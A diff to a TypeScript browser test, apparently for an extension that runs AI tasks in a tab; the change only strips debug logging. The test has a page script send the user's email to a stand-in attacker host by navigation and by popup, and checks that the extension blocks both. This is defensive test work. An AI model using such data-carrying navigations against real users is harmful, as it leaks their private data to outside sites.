@@ -44,7 +44,6 @@ const decisions = async (why = !!process.env.DEBUG_LOADS): Promise<string[]> =>
     )) as any[]
   ).map((d) => `${d.tool}:${d.verdict}${why ? ` ${d.reason}` : ''}`);
 const canaryGot = (path: string) => h.servers.canary.requests.some((r) => r.url.startsWith(path));
-const step = (what: string) => process.env.DEBUG_LOADS && console.log(new Date().toISOString().slice(11, 23), what);
 const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
 
 /** Time for the page's own script to load a page of its site and for it to finish loading. */
@@ -95,29 +94,23 @@ it("while a task works in the tab, the page's own loads are judged and the user'
   // Without a task: the cost baseline.
   const before = { load: [] as number[], link: [] as number[] };
   for (let i = 0; i < 5; i++) {
-    step(`before ${i}`);
     before.load.push(await pageMadeLoad(h.page, `${notes}?n=${i}`));
-    step('link');
     before.link.push(await newTabLink(h.page, `${o.ATTACKER}/w/survey.html?before=${i}`, `/w/survey.html?before=${i}`));
   }
 
-  step('task waiting on the model');
   const gate = await taskWaitingOnModel();
-  step('gate reached');
   await h.page.bringToFront();
 
   // The page's script carries the notes' data to another site: stopped before the request leaves.
   await h.page.evaluate((u) => {
     location.href = u;
   }, `${o.ATTACKER}/pagemade?e=${EMAIL}`);
-  step("await until('the refusal in");
   await until('the refusal in the decision log', async () =>
     (await decisions()).some((d) => d.startsWith('page load:deny')),
   );
   // A new window it opens with that data (noopener: the popup cannot reach back): stopped too.
   await h.page.goto(notes, { waitUntil: 'load' });
   await h.page.evaluate((u) => void window.open(u, '_blank', 'noopener'), `${o.ATTACKER}/popup?e=${EMAIL}`);
-  step("await until('the second refusa");
   await until(
     'the second refusal',
     async () => (await decisions()).filter((d) => d.startsWith('page load:deny')).length >= 2,
@@ -131,7 +124,6 @@ it("while a task works in the tab, the page's own loads are judged and the user'
     during.link.push(await newTabLink(h.page, `${o.ATTACKER}/w/survey.html?during=${i}`, `/w/survey.html?during=${i}`));
   }
 
-  step('// The user types');
   // The user types an address with the same data into this tab, and into a new tab: both go, unjudged.
   await h.page.goto(`${o.ATTACKER}/typed?e=${EMAIL}`);
   // A new tab the user opens (the new-tab page, where they type an address) is not touched either.
@@ -151,7 +143,6 @@ it("while a task works in the tab, the page's own loads are judged and the user'
   expect(canaryGot('/pagemade') || canaryGot('/popup')).toBe(false);
   expect((await decisions()).filter((d) => d.startsWith('page load:deny'))).toHaveLength(2);
 
-  step('gate.release();');
   gate.release();
   await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
   const ms = (xs: number[]) => `${Math.round(median(xs))} ms`;
